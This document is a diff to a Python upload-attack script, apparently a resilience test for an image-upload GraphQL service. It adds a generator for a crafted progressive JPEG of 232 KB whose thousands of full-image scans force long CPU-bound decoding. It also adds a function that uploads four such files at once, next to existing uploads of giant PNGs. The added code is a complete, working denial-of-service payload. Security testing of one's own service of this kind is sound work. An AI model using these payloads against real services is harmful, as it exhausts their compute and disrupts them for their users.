@@ -34,6 +34,29 @@ def flat_png(width: int, height: int) -> bytes:
     )
 
 
+def many_scans_jpeg(width: int, height: int, scans: int) -> bytes:
+    """Write a grey progressive JPEG whose every scan, of 46 bytes, goes over all its blocks."""
+
+    def segment(marker: int, data: bytes) -> bytes:
+        return bytes([0xFF, marker]) + struct.pack("!H", len(data) + 2) + data
+
+    blocks = ((width + 7) // 8) * ((height + 7) // 8)
+    # Code 00 ends the band for 2**14 blocks and as many more as the 14 bits after it say.
+    runs = ("00" + "1" * 14) * -(-blocks // 32_767)
+    coded = int(runs, 2).to_bytes(len(runs) // 8).replace(b"\xff", b"\xff\0")
+    return (
+        b"\xff\xd8"
+        + segment(0xDB, b"\0" + b"\1" * 64)
+        + segment(0xC2, struct.pack("!BHHB", 8, height, width, 1) + b"\1\x11\0")
+        + segment(0xC4, b"\x00\1" + b"\0" * 16)
+        + segment(0xC4, b"\x10\0\1" + b"\0" * 14 + b"\xe0")
+        + segment(0xDA, b"\1\1\0\0\0\0")
+        + b"\0" * ((blocks + 7) // 8)
+        + (segment(0xDA, b"\1\1\0\1\x3f\0") + coded) * scans
+        + b"\xff\xd9"
+    )
+
+
 async def upload(url: str, key: str | None, data: bytes) -> dict[str, object]:
     """Upload a picture; return the payload."""
     headers = {"GraphQL-Require-Preflight": "1"}
@@ -51,3 +74,9 @@ async def attack_long_pictures(url: str, keys: Mapping[str, str]) -> None:
     """Upload pictures of a pixel by 25 million, and of the most pixels that are taken."""
     pictures = [flat_png(1, 25_000_000), flat_png(25_000_000, 1), flat_png(5_000, 5_000)]
     await asyncio.gather(*(upload(url, keys["creator"], data) for data in pictures * 2))
+
+
+async def attack_many_scans(url: str, keys: Mapping[str, str]) -> None:
+    """Upload JPEGs of 232 KB whose 4,000 scans would take half a minute of a core each."""
+    data = many_scans_jpeg(5_000, 5_000, 4_000)
+    await asyncio.gather(*(upload(url, keys["creator"], data) for _ in range(4)))
